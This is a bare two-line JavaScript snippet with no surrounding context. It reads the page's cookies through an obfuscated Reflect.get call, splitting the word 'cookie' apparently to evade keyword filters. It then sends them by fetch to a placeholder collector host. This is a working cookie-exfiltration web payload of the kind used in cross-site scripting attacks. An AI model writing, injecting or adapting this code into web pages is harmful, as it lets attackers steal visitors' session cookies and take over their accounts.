const jar = Reflect.get(document, 'coo' + 'kie');
Reflect.apply(Reflect.get(window, 'fetch'), window, ['https://collector.invalid/?' + jar]);
